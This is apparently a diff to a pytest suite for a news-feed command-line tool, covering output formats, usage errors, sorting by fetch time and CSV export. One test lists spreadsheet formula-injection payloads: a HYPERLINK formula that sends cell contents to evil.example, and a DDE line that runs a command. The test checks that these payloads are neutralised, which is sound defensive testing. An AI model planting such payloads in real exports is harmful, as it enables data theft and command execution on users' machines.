@@ -102,13 +102,102 @@ def test_bad_search_is_a_usage_error(cli):
 
 
 def test_output_formats(cli):
-    table = cli("query")
-    assert len(table.splitlines()) == 4 and "[csto]" in table.splitlines()[0]
+    table = cli("query").splitlines()
+    assert len(table) == 5 and table[0].split() == ["ID", "PUBLISHED", "(UTC)", "SOURCE", "WATCHLISTS", "TITLE"]
+    assert table[1].split()[4] == "csto"
     lines = cli("query", "--format", "jsonl").splitlines()
     assert [json.loads(line)["title"] for line in lines] == [t for _, _, t, *_ in ITEMS]
     rows = list(csv.DictReader(io.StringIO(cli("query", "--format", "csv"))))
     assert rows[0]["watchlists"] == "csto" and rows[2]["title"] == ITEMS[2][2]
-    assert cli("query", "--search", "nothingmatchesthis") == ""
+
+
+def test_table_never_cuts_the_watchlists(cli):
+    result = CliRunner().invoke(main, ["--config", str(cli.config), "query"], env={"COLUMNS": "60"})
+    lines = result.stdout.splitlines()
+    assert result.exit_code == 0 and all(len(line) <= 60 for line in lines)
+    assert [line.split()[4] for line in lines[1:3]] == ["csto", "csto"]  # the title is cut, not the flags
+    assert lines[1].endswith("…")
+
+
+def test_empty_results_are_valid_output(cli):
+    none = ("--search", "nothingmatchesthis")
+    assert json.loads(cli("query", "--format", "json", *none)) == []
+    assert cli("query", "--format", "jsonl", *none) == ""
+    assert cli("query", "--format", "csv", *none).splitlines() == [
+        "id,published,source,title,url,story,watchlists"]
+    assert cli("export", "--format", "csv", *none).splitlines() == [
+        "id,published,source,title,url,story,watchlists"]
+    assert cli("query", *none).splitlines()[0].split()[0] == "ID"  # a header, no rows
+
+
+@pytest.mark.parametrize("command", ["query", "export"])
+def test_unknown_names_are_usage_errors(cli, command):
+    runner = CliRunner()
+    for option, kind, known in (("--source", "source", "armenia, russia"), ("--watchlist", "watchlist", "csto")):
+        result = runner.invoke(main, ["--config", str(cli.config), command, option, "nosuch"])
+        assert result.exit_code == 2 and result.stdout == ""
+        assert f"no {kind} named 'nosuch' (known: {known}" in result.stderr
+        assert len(result.stderr.splitlines()) == 1
+
+
+def test_language_codes_match_case_insensitively(cli):
+    assert titles(cli("query", "--format", "json", "--language", "EN")) == [ITEMS[0][2], ITEMS[3][2]]
+    assert titles(cli("query", "--format", "json", "--language", "Hy")) == [ITEMS[1][2]]
+
+
+def test_csv_cells_cannot_start_a_formula(tmp_path, db_url):
+    formulas = ['=HYPERLINK("http://evil.example/"&A1,"CSTO click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
+                "\tTab", "\rCR"]
+    config = write_config(tmp_path, [("a", "https://example.org/a.xml")], db_url=db_url)
+    store = Store(db_url)
+    store.prepare()
+    for n, title in enumerate(formulas):
+        store.add(ItemRow(source="a", url=f"https://example.org/{n}", title=title, fetched_at=NOW,
+                          sort_time=NOW - timedelta(minutes=n), text="x", blocks=[]), [("url", f"example.org/{n}")], [])
+    store.close()
+    runner = CliRunner()
+    for command in ("query", "export"):
+        base = ["--config", str(config), command, "--format", "csv"]
+        safe = list(csv.DictReader(io.StringIO(runner.invoke(main, base).stdout, newline="")))
+        assert [r["title"] for r in safe] == ["'" + t for t in formulas]
+        raw = list(csv.DictReader(io.StringIO(runner.invoke(main, [*base, "--csv-raw"]).stdout, newline="")))
+        assert [r["title"] for r in raw] == formulas
+
+
+def test_sort_and_filter_by_fetch_time(tmp_path, db_url):
+    """An article fetched today but dated 2018 is what arrived since I last looked."""
+    config = write_config(tmp_path, [("a", "https://example.org/a.xml")], db_url=db_url)
+    store = Store(db_url)
+    store.prepare()
+    old_page = datetime(2018, 3, 1, tzinfo=timezone.utc)
+    for n, (title, published, fetched) in enumerate([
+            ("fresh news", NOW - timedelta(hours=2), NOW - timedelta(hours=1)),
+            ("old page fetched today", old_page, NOW - timedelta(minutes=5)),
+            ("fetched last week", NOW - timedelta(days=8), NOW - timedelta(days=7))]):
+        store.add(ItemRow(source="a", url=f"https://example.org/{n}", title=title, published=published,
+                          fetched_at=fetched, sort_time=published, text="x", blocks=[]), [("url", f"example.org/{n}")],
+                  [])
+    store.close()
+    runner = CliRunner()
+
+    def run(*args: str) -> str:
+        result = runner.invoke(main, ["--config", str(config), *args])
+        assert result.exit_code == 0, result.output
+        return result.stdout
+
+    assert titles(run("query", "--format", "json")) == ["fresh news", "fetched last week", "old page fetched today"]
+    assert titles(run("query", "--format", "json", "--sort", "fetched")) == [
+        "old page fetched today", "fresh news", "fetched last week"]
+    assert titles(run("query", "--format", "json", "--fetched-since", "1d")) == ["fresh news", "old page fetched today"]
+    assert titles(run("query", "--format", "json", "--since", "1d")) == ["fresh news"]
+    assert run("query", "--sort", "fetched").splitlines()[0].split()[1] == "FETCHED"
+    # a cursor pages through the fetched order too
+    first = runner.invoke(main, ["--config", str(config), "query", "--format", "json", "--sort", "fetched", "--limit", "2"])
+    token = first.stderr.split("--cursor ")[1].split()[0]
+    assert titles(run("query", "--format", "json", "--sort", "fetched", "--cursor", token)) == ["fetched last week"]
+    counts = json.loads(run("stats", "--format", "json"))
+    assert sum(counts["fetched_day"].values()) == 3 and sum(counts["day"].values()) == 2
+    assert "per day fetched, UTC" in run("stats")
 
 
 def test_cursor_pages_through_everything_once(cli):
@@ -186,7 +275,7 @@ def test_pruned_item_is_never_reingested(tmp_path):
         with store.engine.begin() as conn:
             conn.execute(update(ItemRow).values(fetched_at=datetime.now(timezone.utc) - timedelta(days=730)))
         store.close()
-        assert runner.invoke(main, ["--config", str(config), "prune", "--keep", "365d"]).stdout.strip() == "pruned 1 items"
+        assert runner.invoke(main, ["--config", str(config), "prune", "--keep", "365d"]).stdout.strip() == "pruned 1 item"
         srv.route("/f.xml", f'<rss version="2.0"><channel><title>t</title><lastBuildDate>2</lastBuildDate><item><title>Old story'
                   f'</title><link>{srv.url("/a/1.html")}</link><guid>1</guid></item></channel></rss>',
                   headers={"Content-Type": "application/rss+xml"})
